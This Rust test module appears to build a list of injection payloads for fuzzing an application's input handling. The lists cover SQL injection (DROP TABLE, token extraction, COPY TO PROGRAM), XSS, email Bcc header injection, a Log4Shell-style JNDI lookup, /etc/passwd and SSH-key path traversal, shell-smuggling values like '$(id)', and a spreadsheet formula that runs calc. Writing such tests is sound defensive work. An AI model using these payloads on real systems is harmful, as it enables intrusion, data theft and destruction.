//! Texts that attack a database, a page, an email, a log, a path or a template.

use rand::Rng;
use rand::rngs::StdRng;

const SQL: &[&str] = &[
    "'",
    "''",
    "\"",
    "`",
    "\\",
    "\\'",
    "';",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "') OR ('a'='a",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "admin'--",
    "admin' #",
    "admin'/*",
    "' UNION SELECT NULL --",
    "' UNION SELECT NULL,NULL,NULL --",
    "' UNION ALL SELECT email FROM users --",
    "'; DROP TABLE users; --",
    "'; DELETE FROM bookings WHERE 'a'='a",
    "'; UPDATE staff SET venue_id = NULL; --",
    "1; SELECT pg_sleep(10) --",
    "' || pg_sleep(10) || '",
    "' AND 1=randomblob(1000000000) --",
    "' AND (SELECT 1 FROM (SELECT count(*) FROM sqlite_master)) --",
    "'; ATTACH DATABASE 'x.db' AS x; --",
    "'; PRAGMA writable_schema = 1; --",
    "'; COPY users TO PROGRAM 'id'; --",
    "$$; DROP TABLE users; $$",
    "$1",
    "$1 OR $2",
    "?",
    ":name",
    "@name",
    "%",
    "_",
    "%%%%",
    "\\%",
    "%' ESCAPE '",
    "x' || (SELECT token FROM sessions) || 'y",
    "1 OR 1=1",
    "NULL",
    "0x27204f52",
    "CHAR(39)",
    "/*!50000 OR 1=1*/",
    "ʼ OR 1=1",
    "＇ OR 1=1 --",
];

/// Scripts that run if taken for markup. Each sets a mark or adds an element that no page has.
const SCRIPTS: &[&str] = &[
    "<script>owned=1</script>",
    "<ScRiPt>owned=1</sCrIpT>",
    "<script src=//x.invalid></script>",
    "<img src=x onerror=owned=1>",
    "<img src=x onerror='owned=1'>",
    "<img/src=x/onerror=owned=1>",
    "<svg onload=owned=1>",
    "<svg><script>owned=1</script></svg>",
    "<svg/onload=owned=1//",
    "<iframe src=javascript:owned=1>",
    "<iframe srcdoc='<b>x'>",
    "<body onload=owned=1>",
    "<input autofocus onfocus=owned=1>",
    "<details open ontoggle=owned=1>",
    "<video><source onerror=owned=1>",
    "<a href=javascript:owned=1>x</a>",
    "<form action=//x.invalid><input>",
    "<base href=//x.invalid/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//x>",
    "<style>*{display:none}</style>",
    "<object data=data:text/html,x>",
    "<embed src=//x.invalid>",
    "<math><mi xlink:href=javascript:x>",
    "<template><b>x</b></template>",
];

/// Contexts in which careless code may insert a text.
const PLACES: &[(&str, &str)] = &[
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    ("</title>", ""),
    ("</script>", ""),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("</textarea>", ""),
];

/// Attacks that need no markup.
const ATTRIBUTES: &[&str] = &[
    "\" onmouseover=\"owned=1",
    "' onfocus='owned=1' autofocus='",
    "x onerror=owned=1",
    "javascript:owned=1",
    "JaVaScRiPt:owned=1",
    "java\tscript:owned=1",
    "data:text/html,<script>owned=1</script>",
    "\\\"-owned=1-\\\"",
    "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
    "&lt;script&gt;owned=1&lt;/script&gt;",
    "&#60;img src=x onerror=owned=1&#62;",
    "%3Cscript%3Eowned=1%3C/script%3E",
    "\u{fe64}script\u{fe65}owned=1",
    "＜script＞owned=1＜/script＞",
    "\"};owned=1;//",
    "</p><h1>Your account is closed</h1><p>",
];

const MAIL: &[&str] = &[
    "a\r\nBcc: evil@example.net",
    "a\nBcc: evil@example.net",
    "a\rBcc: evil@example.net",
    "a\r\n\r\n<h1>evil</h1>",
    "a\r\n.\r\nMAIL FROM:<evil@example.net>",
    "a\u{0}b",
    "a%0d%0aBcc:%20evil@example.net",
    "a%0aCc:evil@example.net",
    "a\u{2028}Bcc: evil@example.net",
    "a\u{85}Bcc: evil@example.net",
    "a\u{b}Bcc: evil@example.net",
    "=?utf-8?q?a=0d=0aBcc:_evil@example.net?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXhhbXBsZS5uZXQ=?=",
    "=?utf-8?q?=",
    "a, evil@example.net",
    "a; evil@example.net",
    "evil@example.net, other@example.net",
    "\"evil\" <evil@example.net>",
    "<evil@example.net>",
    "Bcc: evil@example.net",
    "Content-Type: text/html",
    "--boundary--",
    "----=_Part_0",
    ".",
    "..",
    "From here",
    "a\tb",
];

const LOGS: &[&str] = &[
    "a\n2026-03-02T02:00:00Z ERROR everything is lost",
    "a\r\n{\"level\":\"ERROR\"}",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{7}\u{8}\u{8}",
    "\",\"level\":\"ERROR\",\"x\":\"",
    "${jndi:ldap://x.invalid/a}",
    "%s%s%s%n",
    "{}",
    "{0}",
];

const PATHS: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "\\\\x.invalid\\share",
    "a/../../b",
    "a.jpg%00.png",
    "a\u{0}.png",
    "con",
    "nul.txt",
    "~/.ssh/id_rsa",
    "|id",
    ";id",
    "`id`",
    "$(id)",
    "&& id",
    "-rf",
    "--help",
];

const TEMPLATES: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%7*7%}",
    "{{constructor.constructor('owned=1')()}}",
    "{name}",
    "{count, plural, other {#}}",
    "{0, number}",
    "<0>x</0>",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "undefined",
    "null",
    "NaN",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
];

/// Unusual but harmless texts, which must stay unchanged.
const ODD: &[&str] = &[
    "José Ñandú",
    "e\u{301}",
    "場所 🏸 👨‍👩‍👧‍👦",
    "עברית العربية",
    "\u{202e}txt.exe",
    "a\u{200b}b",
    "\u{feff}bom",
    "ﷺ",
    "İstanbul ıI ß ﬁ",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "\u{10ffff}",
    "\u{fffd}\u{fffe}",
    "BEGIN:VEVENT\r\nEND:VEVENT",
    "a\nEND:VEVENT\nBEGIN:VEVENT",
    "\\n\\,\\;",
    "TRUE",
    "1e309",
    "2026-02-30",
    "   ",
    "\u{a0}\u{3000}",
];

/// 200 HTML attacks, and those that need no markup.
fn markup() -> Vec<String> {
    let mut texts: Vec<String> = SCRIPTS
        .iter()
        .flat_map(|script| {
            let written = |(before, after): &(&str, &str)| format!("{before}{script}{after}");
            PLACES.iter().map(written).collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(texts.len(), 200);
    texts.extend(ATTRIBUTES.iter().map(|&text| text.to_owned()));
    texts
}

pub fn all() -> Vec<String> {
    let mut texts = markup();
    for list in [SQL, MAIL, LOGS, PATHS, TEMPLATES, ODD] {
        texts.extend(list.iter().map(|&text| text.to_owned()));
    }
    texts.push(format!("a\r\n{}", "Bcc: evil@example.net, ".repeat(500)));
    texts.push("é".repeat(10_000));
    texts
}

/// One of the texts, or two combined.
pub fn any(rng: &mut StdRng) -> String {
    let lists = [SQL, ATTRIBUTES, SCRIPTS, MAIL, LOGS, PATHS, TEMPLATES, ODD];
    let mut one = || {
        let list = lists[rng.random_range(0..lists.len())];
        list[rng.random_range(0..list.len())].to_owned()
    };
    let (first, second) = (one(), one());
    if rng.random_bool(0.2) {
        first + &second
    } else {
        first
    }
}
